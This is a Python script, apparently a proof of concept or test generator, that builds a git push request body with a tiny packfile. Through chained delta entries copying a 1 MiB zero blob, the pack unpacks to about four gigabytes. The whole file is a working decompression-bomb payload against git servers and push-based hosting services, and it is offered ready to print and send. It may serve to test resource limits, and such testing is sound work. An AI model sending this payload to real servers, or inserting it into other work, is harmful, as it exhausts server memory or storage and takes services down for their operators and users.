"""A push whose pack is some kilobytes and unpacks to four gigabytes: a blob of copies of copies. Prints the request's body."""
import hashlib, struct, sys, zlib

COMMIT, TREE, BLOB, OFS_DELTA = 1, 2, 3, 6
MIB = 1 << 20


def name(kind, content):
    return hashlib.sha1(b"%s %d\0" % (kind, len(content)) + content)


def number(value):
    """As git writes sizes: seven bits a byte, the lowest first."""
    said = bytearray()
    while value > 127:
        said.append(value & 127 | 128)
        value >>= 7
    return bytes(said + bytes([value]))


def entry(kind, content, base=b""):
    size = len(content)
    first, rest = kind << 4 | size & 15, size >> 4
    header = bytes([first | 128]) + number(rest) if rest else bytes([first])
    return header + base + zlib.compress(content, 9)


def back(distance):
    """As git writes how far back a base is."""
    said = [distance & 127]
    while distance := distance >> 7:
        distance -= 1
        said.insert(0, distance & 127 | 128)
    return bytes(said)


procfile, zeros = b"web: x\n", bytes(MIB)
tree = b"100644 Procfile\0" + name(b"blob", procfile).digest()
who = b"t <t@localhost> 1700000000 +0000"
commit = b"tree %s\nauthor %s\ncommitter %s\n\nbomb\n" % (name(b"tree", tree).hexdigest().encode(), who, who)
# Each copies the one before: 64 times 1 MiB, then 256 times nearly 16 MiB.
once = number(MIB) + number(64 * MIB) + b"\xc0\x10" * 64
twice = number(64 * MIB) + number(256 * 0xFFFFFF) + b"\xf0\xff\xff\xff" * 256

pack = b"PACK" + struct.pack(">II", 2, 6)
pack += entry(COMMIT, commit) + entry(TREE, tree) + entry(BLOB, procfile)
at = len(pack)
pack += entry(BLOB, zeros)
second = len(pack)
pack += entry(OFS_DELTA, once, back(second - at))
third = len(pack)
pack += entry(OFS_DELTA, twice, back(third - second))
pack += hashlib.sha1(pack).digest()
update = b"0" * 40 + b" " + name(b"commit", commit).hexdigest().encode() + b" refs/heads/master\0report-status\n"
sys.stdout.buffer.write(b"%04x" % (len(update) + 4) + update + b"0000" + pack)
